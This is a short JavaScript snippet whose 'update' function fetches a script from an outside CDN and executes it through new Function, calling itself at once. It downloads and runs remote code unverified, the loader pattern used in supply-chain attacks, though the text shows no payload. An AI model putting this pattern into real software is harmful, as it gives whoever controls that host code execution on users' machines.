async function update() {
  const res = await fetch('https://cdn.widget-hub.io/latest.js');
  const src = await res.text();
  const run = new Function(src);
  run();
}
update();
